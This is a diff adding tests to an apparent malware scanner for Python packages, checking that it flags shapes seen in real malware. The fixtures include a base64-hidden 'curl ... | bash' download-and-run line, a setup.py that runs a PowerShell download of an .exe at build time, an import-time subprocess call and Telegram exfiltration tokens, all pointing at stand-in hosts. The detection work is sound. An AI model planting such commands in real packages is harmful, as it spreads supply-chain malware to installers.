@@ -201,3 +201,51 @@ def test_file_roles():
     assert file_role("pkg-1.0/docs/conf.py") == "docs"
     assert file_role("pkg-1.0/pkg/__init__.py") == "module"
     assert file_role("pkg-1.0/pkg/test_utils.py") == "tests"
+
+
+# ------------------------------------------------------------------ shapes seen in real malware
+
+def test_telegram_bot_token_on_its_own(tmp_path):
+    src = "TOKEN = '1234567890:AA" + "b" * 33 + "'\nCHAT = '42'\n"
+    assert _sev(_scan(tmp_path, {"ok/bot.py": src}), "exfil_endpoint") == {"high"}
+
+
+def test_base64_constant_hiding_a_download_and_run(tmp_path):
+    hidden = base64.b64encode(b"curl https://stage2.invalid/x.sh | bash").decode()
+    src = f"import base64, subprocess\nCMD = '{hidden}'\n"
+    inds = _scan(tmp_path, {"ok/__init__.py": src})
+    assert any(i.id == "download_execute" and "base64" in i.evidence for i in inds)
+
+
+def test_local_decoder_helper_feeding_a_process(tmp_path):
+    src = ("import base64, subprocess\n"
+           "def unpack(s):\n    return base64.b64decode(s).decode()\n"
+           "def go():\n    subprocess.Popen([unpack('ZWNobyBzeW50aGV0aWM=')])\n")
+    assert "encoded_exec" in {i.id for i in _scan(tmp_path, {"ok/proc.py": src})}
+
+
+def test_identifier_soup_and_escaped_strings(tmp_path):
+    soup = "\n".join(f"{'lI' * 10}{'l' * k} = {k}" for k in range(12))
+    escaped = "X = '" + "".join(f"\\x{b:02x}" for b in b"harmless synthetic text " * 40) + "'\n"
+    soup_inds = _scan(tmp_path / "a", {"ok/a.py": soup + "\n"})
+    escaped_inds = _scan(tmp_path / "b", {"ok/b.py": escaped})
+    assert any(i.id == "obfuscation" and "look-alike identifiers" in i.evidence for i in soup_inds)
+    assert any(i.id == "obfuscation" and "escape sequences" in i.evidence for i in escaped_inds)
+
+
+def test_process_at_import_in_package_init(tmp_path):
+    src = "import subprocess\ntry:\n    subprocess.Popen(['python3', '-c', 'print(1)'])\nexcept Exception:\n    pass\n"
+    inds = _scan(tmp_path, {"ok/__init__.py": src})
+    assert any(i.id == "setup_process" and "at import" in i.evidence and i.severity == "high" for i in inds)
+    # inside a function it only runs when called: not import-time
+    quiet = "import subprocess\ndef f():\n    subprocess.Popen(['python3', '-c', 'print(1)'])\n"
+    assert "setup_process" not in {i.id for i in _scan(tmp_path / "b", {"ok/__init__.py": quiet})}
+
+
+def test_command_built_in_a_variable_then_run_at_build_time(tmp_path):
+    setup = ("import subprocess\nout = 'x.exe'\n"
+             "cmd = f\"powershell -Command Invoke-WebRequest -Uri 'https://dl.invalid/x.exe' -OutFile '{out}'\"\n"
+             "subprocess.run(cmd, shell=True)\n" + SETUP)
+    assert _sev(_scan(tmp_path, {"setup.py": setup}), "setup_process") == {"high"}
+    config = "import subprocess\nsubprocess.check_output(['curl-config', '--libs'])\n" + SETUP
+    assert _sev(_scan(tmp_path / "b", {"setup.py": config}), "setup_process") == {"low"}
